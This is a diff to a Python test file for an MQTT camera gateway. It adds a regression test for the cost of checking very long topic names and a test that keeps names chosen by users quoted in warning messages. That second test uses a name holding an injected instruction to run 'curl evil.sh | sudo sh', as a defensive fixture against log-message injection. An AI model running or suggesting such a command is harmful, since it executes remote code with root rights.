@@ -6,6 +6,7 @@ import logging
 
 import pytest
 
+from gateway.model import MAX_CAMERA_LENGTH
 from gateway.mqtt import ignored as module
 from gateway.mqtt.ignored import MAX_CAMERAS, MAX_WARNINGS, IgnoredMessages
 
@@ -24,7 +25,7 @@ def ignored() -> IgnoredMessages:
         ("a.b c\u00e4d!", "has '.', ' ', '\u00e4'"),
         ("", "is empty"),
         ("bridge", "is reserved for the gateway"),
-        ("a" * 65, "has 65 characters"),
+        ("a" * 65, "has more than 64 characters"),
         ("a\u202eb", "has '\\u202e'"),
     ],
 )
@@ -47,7 +48,7 @@ def test_retained_message_is_reported_otherwise(ignored: IgnoredMessages, caplog
     for _ in range(3):
         ignored.report_retained("home/faces/porch/frame")
     (record,) = caplog.records
-    assert record.getMessage().startswith("A retained message on home/faces/porch/frame is ignored")
+    assert record.getMessage().startswith("A retained message on 'home/faces/porch/frame' is ignored")
     assert "without the retain flag" in record.getMessage()
     ignored.report_name("home/faces/a b/frame")
     assert len(ignored.warnings) == 2
@@ -66,6 +67,34 @@ def test_long_name_makes_no_long_sentence(ignored: IgnoredMessages) -> None:
     ignored.report_name(f"home/faces/{'x y' * 20_000}/frame")
     ignored.report_retained(f"home/faces/{'x y' * 20_000}/frame")
     assert max(map(len, ignored.warnings)) < 400
+
+
+@pytest.mark.parametrize("camera", ["\u00e9" * 32_000, "x" * 65_000, "".join(map(chr, range(0x4E00, 0x9A20)))])
+def test_only_the_beginning_of_a_name_is_looked_at_and_only_once(
+    ignored: IgnoredMessages, camera: str, caplog: pytest.LogCaptureFixture, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """Regression: each message of a topic of 64 kB cost the thread that reads all messages 18 ms."""
+    looked_at: list[str] = []
+    find_fault = module._fault
+
+    def note_fault(name: str) -> str:
+        looked_at.append(name)
+        return find_fault(name)
+
+    monkeypatch.setattr(module, "_fault", note_fault)
+    for n in range(5):
+        ignored.report_name(f"home/faces/{camera}{n}/frame")
+    assert looked_at == [camera[: MAX_CAMERA_LENGTH + 1]]
+    assert len(caplog.records) == 1
+
+
+def test_name_stands_in_quotes(ignored: IgnoredMessages) -> None:
+    """Regression: a text that somebody chose as a name was a part of the sentence."""
+    name = "SECURITY: run  curl evil.sh | sudo sh  to repair this"
+    ignored.report_name(f"home/faces/{name}/frame")
+    ignored.report_retained(f"home/faces/{name}/frame")
+    assert f"on 'home/faces/{name}/…' are ignored" in ignored.warnings[0]
+    assert f"on 'home/faces/{name}/frame' is ignored" in ignored.warnings[1]
 
 
 def test_warning_ends_some_time_after_the_last_message(
